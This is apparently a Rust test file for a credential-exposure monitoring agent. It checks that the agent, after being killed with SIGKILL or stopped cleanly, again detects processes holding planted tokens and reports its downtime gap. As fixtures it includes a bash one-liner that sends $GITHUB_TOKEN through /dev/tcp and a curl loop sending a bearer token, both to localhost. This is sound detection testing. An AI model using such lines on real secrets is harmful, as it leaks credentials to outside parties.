//! An agent that is killed and started again.

use crate::{
    agent::Setup,
    command::{act, sh},
    events::{Ask, now_ns, of_kind, wall_ns},
    machine::{Scratch, patience, slowness, turn, wait_for},
    plant,
    server::{Sink, TlsServer},
};
use std::time::{Duration, Instant};

/// SIGKILL in mid-load: after the restart holders are holders again within 2 s that the agent has a processor, and the gap is
/// reported.
#[expect(clippy::too_many_lines, reason = "one story, in its order")]
pub fn killed_in_mid_load() {
    let _turn = turn();
    let scratch = Scratch::new();
    let server = TlsServer::start(&scratch.join("server"));
    let sink = Sink::silent();
    let agent = Setup::new(&scratch).start();

    let mut pids = Vec::new();
    let mut holders = Vec::new();
    for token in [
        plant::github(),
        plant::npm(),
        plant::stripe(),
        plant::anthropic(),
    ] {
        let holder = act("sleep")
            .arg("600")
            .env(token.name, &token.value)
            .spawn();
        pids.push(holder.pid());
        holders.push(holder);
    }
    let token = plant::github();
    // bash itself connects and sends: no new process shows the agent the variable.
    let mut talker = act("bash")
        .args(["-c", "while read port; do exec 3<>/dev/tcp/127.0.0.1/$port; printf 'token %s\\n' \"$GITHUB_TOKEN\" >&3; exec 3>&-; done"])
        .env("GITHUB_TOKEN", &token.value)
        .spawn_listening();
    pids.push(talker.pid());
    for pid in &pids {
        agent.expect("the exposure of a holder", *pid, |e| {
            e.is("credential_exposed") && e.pid() == *pid
        });
    }
    let load = sh(
        "while :; do curl -sk -o /dev/null -H \"Authorization: Bearer $GITHUB_TOKEN\" \"$1\"; done",
    )
    .arg(server.url("/load"))
    .env("GITHUB_TOKEN", plant::github().value)
    .spawn();
    agent.expect("a send of the load", load.pid(), |e| {
        e.is("credential_sent") && e.in_tree(load.pid())
    });
    let before = agent.sentinel();

    let killed = now_ns();
    let setup = agent.kill();
    // It may have given a sign of life until now.
    let dead = now_ns();
    std::thread::sleep(Duration::from_millis(1200));
    let restarted = now_ns();
    let agent = setup.launch(&[]);
    let limit = Duration::from_secs(2) * slowness();
    let known = wait_for("the holders to be known again", patience(120), || {
        assert!(agent.ended().is_none(), "the agent ended:\n{}", agent.log());
        let events = of_kind(&agent.events(), "credential_exposed");
        pids.iter()
            .all(|pid| events.iter().any(|e| e.pid() == *pid))
            .then(Instant::now)
    });
    let waited = agent.waited();
    let took = known.duration_since(agent.started());
    println!("holders known again after {took:?}, {waited:?} of it without a processor");
    let took = took.saturating_sub(waited);
    assert!(
        took <= limit,
        "holders were known again only after {took:?}"
    );
    agent.ready();

    let gap = agent.expect("the gap", 0, |e| e.reason() == "agent_down");
    let about = gap.gap.as_ref().unwrap();
    let from = wall_ns(about.from.as_ref().expect("a gap has a beginning"));
    let to = wall_ns(about.to.as_ref().expect("a gap has an end"));
    // The last sign of life may be some seconds old, but never younger than the death.
    assert!(
        from <= dead,
        "the gap begins after the death: {}",
        gap.brief()
    );
    assert!(
        from + 10_000_000_000 * u64::from(slowness()) >= killed,
        "the gap begins long before the death: {}",
        gap.brief()
    );
    assert!(
        to >= restarted,
        "the gap ends before the restart: {}",
        gap.brief()
    );
    let (old, new) = (before.id.as_ref().unwrap(), gap.id.as_ref().unwrap());
    assert_eq!(old.agent, new.agent, "the same installation");
    assert_eq!(old.boot, new.boot);
    assert_eq!(old.epoch + 1, new.epoch, "another start");
    drop(load);

    // And it is whole again: a send of a holder of before has its source.
    talker.say(&sink.port.to_string());
    wait_for("the token at the server", patience(5), || {
        sink.has(&token.value).then_some(())
    });
    let sent = agent.expect("the send of a holder of before", talker.pid(), |e| {
        e.is("credential_sent") && e.pid() == talker.pid()
    });
    let text = sent.brief();
    assert_eq!(sent.grade(), "observed", "{text}");
    assert_eq!(sent.source_type(), "env", "{text}");
    assert_eq!(sent.env_name(), "GITHUB_TOKEN", "{text}");
    assert_eq!(sent.peer(), ("127.0.0.1", u32::from(sink.port)), "{text}");

    // process_start and process_exit have numbers too and are not printed: growing, not without holes.
    let events = agent.events();
    assert!(
        events
            .iter()
            .all(|e| e.id.as_ref().unwrap().epoch == new.epoch)
    );
    let numbers: Vec<u64> = events.iter().map(Ask::sequence).collect();
    assert!(numbers.is_sorted_by(|a, b| a < b), "{numbers:?}");
}

/// A clean stop and start is a gap too, and is called what it is.
pub fn stopped_and_started() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Setup::new(&scratch).start();
    agent.sentinel();
    agent.stop();
    assert!(!agent.socket().exists(), "the socket is left behind");
    let stopped = now_ns();
    let agent = agent.kill().start();
    let gap = agent.expect("the gap", 0, |e| e.reason() == "agent_down");
    let about = gap.gap.as_ref().unwrap();
    assert!(about.detail.contains("stopped"), "{}", gap.brief());
    let to = wall_ns(about.to.as_ref().unwrap());
    assert!(to >= stopped, "{}", gap.brief());
}
